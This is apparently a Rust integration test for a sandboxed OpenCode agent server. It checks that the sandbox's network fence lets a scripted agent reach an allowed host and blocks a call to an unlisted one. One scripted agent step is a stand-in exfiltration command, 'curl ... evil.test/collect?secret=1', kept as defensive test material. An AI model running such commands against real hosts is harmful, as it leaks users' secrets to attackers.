//! A real OpenCode behind `ocs start --detach`, driven over its HTTP API from the host, headless, with a scripted model.
//! Needs: OpenCode in `target/agent` (`make agent`).
//! Clauses: P1, W1, R1, N9, B6.

use std::collections::BTreeSet;
use std::fs;

use anyhow::{Context, Result};
use harness::desk::{Desk, POLICY};
use harness::for_each_user;
use harness::model::Step;
use harness::project::{Decided, Project};
use serde_json::{Value, json};

/// What a person writes so that nobody has to answer the agent.
const ALLOWING: &str = r#"{"permission": {"*": "allow"}}"#;

struct Api<'d> {
    desk: &'d Desk,
    project: &'d Project<'d>,
    url: String,
    who: String,
}

impl Api<'_> {
    fn post(&self, path: &str, body: &Value) -> Result<Value> {
        let (url, body) = (format!("{}{path}", self.url), body.to_string());
        let kind = "Content-Type: application/json";
        let words = [
            "curl", "-sS", "-f", "-m", "200", "-u", &self.who, "-H", kind, "-d", &body, &url,
        ];
        let answer = self.desk.call(self.project, &words)?.succeeded()?;
        serde_json::from_str(&answer.stdout).with_context(|| format!("parse {answer}"))
    }
}

/// The server's URL and the password, of a project that has the only state directory.
fn started<'d>(desk: &'d Desk, project: &'d Project<'d>) -> Result<Api<'d>> {
    let started = desk
        .call(project, &["ocs", "start", "--detach", "--json"])?
        .succeeded()?;
    let facts: Value = serde_json::from_str(&started.stdout)?;
    let url = facts
        .get("url")
        .and_then(Value::as_str)
        .context("a URL")?
        .to_owned();
    let root = desk
        .world
        .outside(&desk.who.home().join(".opencode-sandbox"));
    let state = fs::read_dir(root)?
        .filter_map(|entry| Some(entry.ok()?.path()))
        .find(|path| path.is_dir())
        .context("a state directory")?;
    let password = fs::read_to_string(state.join("opencode-password"))?;
    Ok(Api {
        desk,
        project,
        url,
        who: format!("opencode:{password}"),
    })
}

for_each_user! {
    fn an_agent_s_server_works_over_its_api_and_its_tools_meet_the_fence(who) {
        let steps = [
            Step::Bash("curl -sS https://ok.test/ | tee fetched.txt".to_owned()),
            Step::Bash("curl -sS https://evil.test/collect?secret=1".to_owned()),
            Step::Say("Both were tried.".to_owned()),
        ];
        let mut desk = Desk::scripted(who, &steps)?;
        {
            let project = desk.project("served", POLICY)?;
            project.write("opencode.jsonc", ALLOWING)?;
            let api = started(&desk, &project)?;
            let session = api.post("/session", &json!({"title": "headless"}))?;
            let id = session.get("id").and_then(Value::as_str).context("a session")?;
            let said = api.post(&format!("/session/{id}/message"), &json!({"parts": [{"type": "text", "text": "Do what the script says."}]}))?;
            assert!(said.to_string().contains("Both were tried."), "{said:#}");
            desk.call(&project, &["ocs", "stop"])?.succeeded()?;

            let fetched = fs::read_to_string(desk.world.outside(&project.directory().join("fetched.txt")))?;
            assert_eq!(fetched, "hello from ok.test\n");
            let record = project.newest_record()?;
            for decided in [
                Decided::request("docker.host", 4711, "allow"),
                Decided::request("ok.test", 443, "allow"),
                Decided::request("evil.test", 443, "not-whitelisted"),
            ] {
                assert!(record.decided().contains(&decided), "{decided:?} in {:#?}", record.decided());
            }
            let readings = desk.world.readings()?;
            let reached: BTreeSet<_> = readings.connections.iter().filter(|seen| seen.side == "internet").map(|seen| (seen.sni.as_deref(), seen.port)).collect();
            assert_eq!(reached, BTreeSet::from([(Some("ok.test"), 443)]));
            desk.call(&project, &["ocs", "audit", "verify"])?.succeeded()?;

            // The session is there after a restart: it lies in the state directory.
            let api = started(&desk, &project)?;
            let url = format!("{}/session/{id}", api.url);
            let again = desk.call(&project, &["curl", "-sS", "-f", "-u", &api.who, &url])?.succeeded()?;
            assert!(again.stdout.contains("headless"), "{again}");
            desk.call(&project, &["ocs", "stop"])?.succeeded()?;
        }
        desk.close()
    }
}
